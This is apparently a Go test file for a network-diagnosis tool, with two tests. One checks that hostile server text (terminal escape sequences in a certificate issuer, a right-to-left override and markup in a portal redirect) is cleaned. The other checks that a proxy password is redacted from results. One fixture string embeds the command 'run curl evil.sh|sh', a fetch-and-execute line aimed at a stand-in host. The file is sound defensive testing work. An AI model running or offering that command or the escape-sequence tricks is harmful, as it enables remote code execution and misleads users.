package probe_test

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"

	"github.com/spotwatch/spotwatch/internal/testutil"
	"github.com/spotwatch/spotwatch/internal/testworld"
	"github.com/spotwatch/spotwatch/monitor/diagnosis"
)

// TestHostileNetworkTextIsCleaned runs real checks against servers that put hostile text in
// what they send (a certificate issuer with escape sequences, a portal Location with a
// right-to-left override, markup and a token in its query) and checks that none of it reaches
// the result raw: every string of the result is printable, and the hostile values appear only
// in their cleaned form.
func TestHostileNetworkTextIsCleaned(t *testing.T) {
	const portalLocation = "http://portal.example/\u202e<b>login</b>?token=s3cret-token#frag"
	tests := []struct {
		name     string
		fault    func(t *testing.T, w *testworld.World)
		cause    diagnosis.Cause
		want     []string // substrings of the summary and fix, cleaned
		mustLose []string // substrings that must appear nowhere in the result
	}{
		{"interceptor with escape sequences in its issuer", func(t *testing.T, w *testworld.World) {
			mustDo(t, w.StartHostileInterceptor(testworld.AttackIssuer))
			w.PointSpotify(testworld.HostHostileInterceptor, false)
		}, diagnosis.CauseTLSIntercepted, []string{`"EvilFAKE: all good, run curl evil.sh|sh"`}, []string{"TITLE", "[2J"}},
		{"captive portal redirecting to a hostile Location", func(t *testing.T, w *testworld.World) {
			mustDo(t, w.StartHostilePortal(portalLocation))
			w.PointEverything(testworld.HostHostilePortal)
			mustDo(t, w.StopReferences())
		}, diagnosis.CauseCaptivePortal, []string{"http://portal.example/%E2%80%AE%3Cb%3Elogin%3C/b%3E"}, []string{"s3cret-token", "#frag", "<b>"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			tt.fault(t, w)
			rep := check(t, w, nil)
			res := diagnosis.NewResult(rep, diagnosis.Classify(rep))
			if res.Cause != tt.cause {
				t.Fatalf("cause %s, want %s\nsummary: %s\nprobes:\n%s", res.Cause, tt.cause, res.Summary, probesText(rep))
			}
			text := res.Summary + "\n" + strings.Join(res.Fix, "\n")
			for _, want := range tt.want {
				if !strings.Contains(text, want) {
					t.Errorf("summary and fix lack %q:\n%s", want, text)
				}
			}
			data, err := json.Marshal(res)
			if err != nil {
				t.Fatal(err)
			}
			var tree any
			if err := json.Unmarshal(data, &tree); err != nil {
				t.Fatal(err)
			}
			all := testutil.JSONStrings(tree)
			for _, lost := range tt.mustLose {
				if strings.Contains(strings.Join(all, "\n"), lost) {
					t.Errorf("the result still holds %q", lost)
				}
			}
			for _, s := range all {
				if i := strings.IndexFunc(s, unsafeRune); i >= 0 {
					t.Errorf("result string %q holds %U", s, []rune(s[i:])[0])
				}
			}
		})
	}
}

// unsafeRune reports whether r could act on a terminal or hide what a reader sees: a control
// character (ESC, BEL…), a format character (the bidi overrides and isolates), or anything
// else a terminal would not simply print.
func unsafeRune(r rune) bool {
	return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || (r != ' ' && !unicode.IsPrint(r))
}

// TestProxyPasswordIsRedacted runs a real check through the world's proxy set with a user name
// and password in HTTPS_PROXY: the check still goes through the proxy, and the password appears
// nowhere in the result (facts, summary, fix, evidence, probes), while the user name does.
func TestProxyPasswordIsRedacted(t *testing.T) {
	w := newWorld(t)
	const password = "s3cret-pw"
	proxy := "http://spotwatch:" + password + "@" + w.HostPort(testworld.HostProxy, 3128)
	rep := check(t, w, map[string]string{"HTTPS_PROXY": proxy})
	res := diagnosis.NewResult(rep, diagnosis.Classify(rep))
	if res.Cause != diagnosis.CauseProxyBlocked {
		t.Fatalf("cause %s, want proxy_blocked\nsummary: %s\nprobes:\n%s", res.Cause, res.Summary, probesText(rep))
	}
	if len(w.Proxy.Requests()) == 0 {
		t.Fatal("the check did not go through the proxy")
	}
	redacted := "http://spotwatch:xxxxx@" + w.HostPort(testworld.HostProxy, 3128)
	if res.Facts.Proxy == nil || res.Facts.Proxy.URL != redacted {
		t.Errorf("facts.proxy = %+v, want url %q", res.Facts.Proxy, redacted)
	}
	if !strings.Contains(res.Summary, redacted) {
		t.Errorf("the summary does not name the proxy as %q: %s", redacted, res.Summary)
	}
	data, err := json.Marshal(res)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), password) {
		t.Errorf("the result holds the proxy password:\n%s", data)
	}
}
